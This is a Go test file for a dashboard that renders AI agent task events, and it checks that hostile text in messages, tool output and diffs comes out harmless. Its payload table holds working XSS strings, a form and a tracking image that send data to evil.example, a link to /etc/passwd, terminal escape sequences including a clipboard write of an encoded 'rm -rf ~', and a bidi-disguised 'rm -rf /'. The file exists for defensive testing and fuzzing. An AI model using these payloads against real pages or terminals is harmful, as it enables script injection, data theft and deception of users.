package dashboard

import (
	"encoding/json"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"sam/task"
)

// harmless walks what a browser would build of the text and says what in it could act, fetch or pretend.
func harmless(t *testing.T, name, text string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	allowed := strings.Fields("html head body article section figure figcaption div span p a time details summary pre code b i em strong del " +
		"h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table thead tbody tr th td blockquote br hr small header input")
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if !slices.Contains(allowed, n.Data) {
			t.Errorf("%s makes a <%s>:\n%.2000s", name, n.Data, text)
		}
		for _, a := range n.Attr {
			switch {
			case strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "src" || a.Key == "srcset" || a.Key == "action" || a.Key == "formaction":
				t.Errorf("%s makes %s=%q on <%s>", name, a.Key, a.Val, n.Data)
			case a.Key == "id" && !strings.HasPrefix(a.Val, "e"):
				t.Errorf("%s makes the id %q", name, a.Val)
			case a.Key == "href":
				u, err := url.Parse(a.Val)
				if err != nil || !slices.Contains([]string{"", "http", "https", "mailto"}, u.Scheme) ||
					u.Host == "" && u.Scheme == "" && !strings.HasPrefix(a.Val, "#e") && !strings.HasPrefix(a.Val, "/tasks/tabc/") {
					t.Errorf("%s links to %q", name, a.Val)
				}
				if u != nil && u.Host != "" && !slices.ContainsFunc(n.Attr, func(r html.Attribute) bool { return r.Key == "rel" && r.Val == linkRel }) {
					t.Errorf("%s links to %q without %s", name, a.Val, linkRel)
				}
			}
		}
	}
	for _, control := range []string{"\x1b", "\x07", "\u009b", "\u009d", "\u202e", "\u2066"} {
		if strings.Contains(text, control) {
			t.Errorf("%s lets %q through", name, control)
		}
	}
}

// hostile is what an agent, or a file that it shows, could say to a page.
var hostile = map[string]string{
	"a script":              `<script>alert(1)</script>`,
	"a handler":             `<img src=x onerror=alert(1)>`,
	"svg":                   `<svg onload=alert(1)><animate onbegin=alert(1)></svg>`,
	"a style":               `<style>*{display:none}</style><p style="position:fixed;inset:0">`,
	"a form":                `<form action=//evil.example><button formaction=javascript:alert(1)>ok</button></form>`,
	"an iframe":             `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	"broken HTML":           `<<script>script>alert(1)<</script>/script><a href="x" onclick='a`,
	"an id of ours":         `<div id="status"></div><a id=main name=log>x</a>`,
	"a javascript link":     `[x](javascript:alert(1)) <javascript:alert(1)> [y](JaVaScRiPt:alert(1))`,
	"an encoded one":        "[x](java&#115;cript:alert(1)) [y](&#x6A;avascript:alert(1)) [z](java\tscript:alert(1))",
	"a data link":           `[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml,<svg/onload=alert(1)>)`,
	"a vbscript link":       `[x](vbscript:msgbox) [f](file:///etc/passwd)`,
	"an image":              `![tracker](https://evil.example/t.gif?secret "x")`,
	"a reference":           "[x]\n\n[x]: javascript:alert(1) \"t\"",
	"a quote out of a link": `[x](https://example.com/"onmouseover="alert(1)) [y](<https://e.com/ "onclick=alert(1)>)`,
	"a link of the house":   `[x](/live?topics=conv:7) [y](//evil.example/) [z](../../x)`,
	"a title":               "[x](https://e.com \"<script>alert(1)</script>\")",
	"code that ends early":  "```html\n</code></pre><script>alert(1)</script>\n```\n\n`</code><script>`",
	"a fence with a class":  "```x\" onclick=alert(1)\ncode\n```",
	"a table":               "| a<script> | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
	"a comment":             `<!-- --><script>alert(1)</script> --><![CDATA[<script>]]><?php x ?>`,
	"OSC 8":                 "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b]8;;data:text/html,<script>\x1b\\click\x1b]8;;\x1b\\",
	"OSC 8 without an end":  "\x1b]8;;https://evil.example/",
	"OSC 52":                "\x1b]52;c;cm0gLXJmIH4=\x07ok",
	"OSC 1337":              "\x1b]1337;File=name=eA==;inline=1:aGk=\x07 \x1b]1338;url=https://evil.example/x.png\x07 \x1b]1339;url=javascript:alert(1);content=x\x07",
	"APC":                   "\x1b_bk;t=123\x07x\x1b_Gf=100;aGk=\x1b\\",
	"DCS and PM":            "\x1bP1$r0m\x1b\\x\x1b^secret\x1b\\y\x1bXz\x1b\\",
	"moves":                 "\x1b[999999999B\x1b[999999999;999999999Hx\x1b[2J\x1b[1;1Hy\x1b[999999999C\x1b[99999999999999999999Az\x1b[999999999Gw",
	"8-bit controls":        "\u009b31mred\u009d8;;javascript:alert(1)\u009cclick \u0090x\u009c",
	"colours from anywhere": "\x1b[38;5;300m\x1b[38;2;1;2;3m\x1b[48;5;1m\x1b[;;;;;;m\x1b[" + strings.Repeat("1;", 5000) + "mx",
	"modes and resets":      "\x1bc\x1b[?1049h\x1b[?25l\x1b7\x1b8\x1bM\x1b(0lqk\x1b(B\x1b[6n\x1b[c",
	"half a sequence":       "x\x1b",
	"invalid UTF-8":         "ok \xff\xfe \xc3\x28 \xed\xa0\x80 \x9b31m end",
	"turned around":         "rm \u202e/ fr- \u2066x\u2069 \u200fy",
	"NUL and friends":       "a\x00b\x01c\x0bd\x0ce\x7ff",
	"a long line":           strings.Repeat("<b>x", 15_000),
}

func TestHostileWordsAreHarmlessWhereverTheyStand(t *testing.T) {
	r := rendering(t)
	exit := -1
	for name, words := range hostile {
		for place, e := range map[string]task.Event{
			"said":     {Kind: task.Said, Text: words},
			"thought":  {Kind: task.Thought, Text: words},
			"asked":    {Kind: task.Asked, Text: words},
			"answered": {Kind: task.Answered, Text: words},
			"retried":  {Kind: task.Retried, Text: words},
			"noticed":  {Kind: task.Noticed, Text: words, Notice: &task.Notice{Code: words, Subject: words}},
			"refused":  {Kind: task.Noticed, Text: words, Notice: &task.Notice{Code: "host_refused", Subject: words}},
			"step":     {Kind: task.Stepped, Step: &task.Step{Name: task.StepName(head(words, 100)), Note: words}},
			"plan":     {Kind: task.Planned, Plan: []task.PlanItem{{Text: words, Status: words}}},
			"model":    {Kind: task.Used, Usage: &task.Usage{Model: words}},
			"finished": {Kind: task.Finished, End: &task.End{Outcome: task.Outcome(head(words, 100)), Headline: words}},
			"reason":   {Kind: task.Finished, End: &task.End{Outcome: task.Died, Reason: words}},
			"started":  {Kind: task.ToolStarted, Tool: &task.Tool{ID: words, Name: words, Title: words, Location: words}},
			"output":   {Kind: task.ToolFinished, Tool: &task.Tool{ID: "1", Name: "Bash", Output: words, Exit: &exit}},
			"tool": {Kind: task.ToolFinished, Tool: &task.Tool{ID: words, Name: words, Title: words, Location: words,
				Diff: "--- a/" + line(words, 80) + "\n+++ b/x\n@@ -1 +1 @@ " + line(words, 80) + "\n-" + strings.ReplaceAll(words, "\n", " ") + "\n+x\n"}},
			"no diff": {Kind: task.ToolFinished, Tool: &task.Tool{ID: "1", Name: "Edit", Diff: words}},
		} {
			e.Seq = 1
			n := encoded(t, e)
			for _, full := range []bool{false, true} {
				harmless(t, name+" in "+place, r.shown(t, n, full))
			}
			piece, err := r.execute("event-raw", eventPageView{Event: r.view("tabc", n, true)})
			if err != nil {
				t.Fatal(err)
			}
			harmless(t, name+" in the raw line of "+place, string(piece))
		}
		kind, err := json.Marshal(words)
		if err != nil {
			t.Fatal(err)
		}
		harmless(t, name+" as a kind", r.shown(t, task.Numbered{Seq: 1, JSON: []byte(`{"seq":1,"kind":` + string(kind) + `}`)}, false))
		harmless(t, name+" as an event", r.shown(t, task.Numbered{Seq: 1, JSON: []byte(words)}, false))
		harmless(t, name+" in bytes as Markdown", string(r.markdown.html(words)))
		harmless(t, name+" in bytes as output", string(r.terminal.html(words)))
	}
}

func TestWhatIsHarmlessStays(t *testing.T) {
	r := rendering(t)
	for words, want := range map[string]string{
		"a **b** `c` ~~d~~":              "<p>a <strong>b</strong> <code>c</code> <del>d</del></p>",
		"[x](https://example.com/a?b=c)": `<a href="https://example.com/a?b=c" rel="` + linkRel + `">x</a>`,
		"see https://example.com/":       `<a href="https://example.com/" rel="` + linkRel + `">https://example.com/</a>`,
		"use a <div> here":               "use a &lt;div&gt; here",
		"![a plan](https://e.com/x.png)": "[image: a plan https://e.com/x.png]",
		"- [x] done\n- [ ] open":         `<input checked="" disabled="" type="checkbox"`,
		"| a |\n|---|\n| b |":            "<td>b</td>",
		"----------\n\n***\n\n* * * * *": "<hr",
		"[x](src/main.go)":               "x",
	} {
		wants(t, words, string(r.markdown.html(words)), want)
	}
	for output, want := range map[string]string{
		"\x1b[1;31mred\x1b[0m plain":          `<span class="term-fg31 term-fg1">red</span> plain`,
		"10%\r20%\r\x1b[Kdone\n":              "done",
		"\x1b]0;title\x07text":                "text",
		"\x1b]8;;https://x\x07a\x1b]8;;\x07b": "ab",
		"a < b && c":                          "a &lt; b &amp;&amp; c",
	} {
		wants(t, output, string(r.terminal.html(output)), want)
	}
	if got := string(r.terminal.html("10%\r20%\r\x1b[Kdone\n")); strings.Contains(got, "%") {
		t.Errorf("a progress bar leaves %q", got)
	}
}

func TestNothingThatFitsAnEventTakesLongToShow(t *testing.T) {
	r := rendering(t)
	slowest := time.Duration(0)
	for _, unit := range []string{">", "> ", "- ", "1. ", "[", "![", "[x](", "*", "_a_*b*", "**a ", "`", "``` ", "<", "<a ", "<!--", "&", "\\", "|", "a|\n-|\n",
		"\n>", "\t", " \t", "~", "~~a", "]", "[]", "[a]:", "\r", "\x1b[31m", "\x1b[", "\x1b]", "\x1b[A\n", "\n", "https://", "www.", "a@b.c ", "- a\n  ", "*a", "a*", "_(", "<b>"} {
		words := strings.Repeat(unit, task.MaxEvent/len(unit))
		began := time.Now()
		words1, words2 := r.markdown.html(words), r.terminal.html(words)
		took := time.Since(began)
		if slowest < took {
			slowest = took
			t.Logf("%q over and over took %s", unit, took)
		}
		if took > 5*time.Second { // with the race detector, on a busy machine; else a tenth of it
			t.Errorf("%q over and over took %s", unit, took)
		}
		for _, made := range []string{string(words1), string(words2)} {
			if deep := depth(made); deep > 200 {
				t.Errorf("%q over and over nests %d deep", unit, deep)
			}
			if len(made) > 40*task.MaxEvent {
				t.Errorf("%q over and over becomes %d bytes", unit, len(made))
			}
		}
	}
}

// Laid out, every level of JSON is indented by all that it is in.
func TestARawLineThatNestsDeepIsShownAsItIs(t *testing.T) {
	r := rendering(t)
	for name, line := range map[string]string{
		"arrays":  strings.Repeat("[", 9000) + strings.Repeat("]", 9000),
		"objects": strings.Repeat(`{"a":`, 4000) + "1" + strings.Repeat("}", 4000),
	} {
		e := task.Event{Seq: 1, Kind: task.Said, Text: "x", Raw: json.RawMessage(line)}
		took := testing.Benchmark(func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if v := r.view("tabc", encoded(b, e), true); v.Raw != line {
					b.Fatalf("%s: %.100s", name, v.Raw)
				}
			}
		})
		if took.AllocedBytesPerOp() > 2<<20 {
			t.Errorf("%s take %d bytes", name, took.AllocedBytesPerOp())
		}
	}
	text := `{"a":"[[[[\"[[[[","b":[1]}`
	if got := levels([]byte(text)); got != 2 {
		t.Errorf("%s nests %d deep, want 2", text, got)
	}
}

func depth(text string) int {
	deepest, now := 0, 0
	tokens := html.NewTokenizer(strings.NewReader(text))
	for {
		switch tokens.Next() {
		case html.ErrorToken:
			return deepest
		case html.StartTagToken:
			name, _ := tokens.TagName()
			if !slices.Contains([]string{"br", "hr", "input"}, string(name)) {
				now++
				deepest = max(deepest, now)
			}
		case html.EndTagToken:
			now--
		}
	}
}

func FuzzWordsAreHarmless(f *testing.F) {
	for _, words := range hostile {
		f.Add(words)
	}
	r := rendering(f)
	f.Fuzz(func(t *testing.T, words string) {
		if len(words) > 4096 {
			return
		}
		harmless(t, "Markdown", string(r.markdown.html(words)))
		harmless(t, "output", string(r.terminal.html(words)))
	})
}
